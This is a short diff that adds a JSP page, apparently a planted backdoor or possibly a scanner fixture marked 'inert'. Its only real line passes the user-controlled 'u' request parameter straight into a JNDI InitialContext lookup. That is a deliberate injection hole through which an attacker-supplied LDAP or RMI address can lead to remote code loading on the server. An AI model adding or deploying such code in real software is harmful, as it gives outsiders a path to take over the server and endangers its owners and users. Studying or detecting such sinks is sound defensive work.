@@ -1,0 +1,2 @@
+<%@ inert %>
+<% new javax.naming.InitialContext().lookup(request.getParameter("u")); %>
